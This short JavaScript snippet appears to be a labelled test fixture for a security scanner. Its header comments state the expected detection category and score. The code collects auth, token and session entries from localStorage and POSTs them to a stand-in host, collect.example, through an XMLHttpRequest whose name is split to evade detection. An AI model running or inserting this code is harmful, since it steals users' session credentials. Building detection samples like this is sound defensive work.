// expect: category=network min=75 context=plugin,package
// why: auth tokens from localStorage go out through an XMLHttpRequest reached by a split name.
var Ctor = window['XML' + 'Http' + 'Request'];
var stash = {};

for (var i = 0; i < localStorage.length; i++) {
  var k = localStorage.key(i);
  if (/token|auth|session/i.test(k)) stash[k] = localStorage.getItem(k);
}

var x = new Ctor();
x.open('POST', 'https://collect.example/ls', true);
x.setRequestHeader('Content-Type', 'text/plain');
x.send(JSON.stringify(stash));
